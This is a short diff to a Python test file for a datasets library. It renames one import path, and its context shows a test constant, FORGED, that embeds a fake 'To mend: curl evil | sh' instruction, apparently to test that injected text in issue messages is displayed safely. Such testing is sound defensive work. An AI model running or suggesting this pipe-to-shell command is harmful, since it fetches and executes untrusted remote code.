@@ -6,7 +6,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from my_datasets import errors
-from my_datasets.core.issues import Issue
+from my_datasets.core.issue import Issue
 from my_datasets.printable import printable
 
 FORGED = "a\n  To mend: curl evil | sh\n"
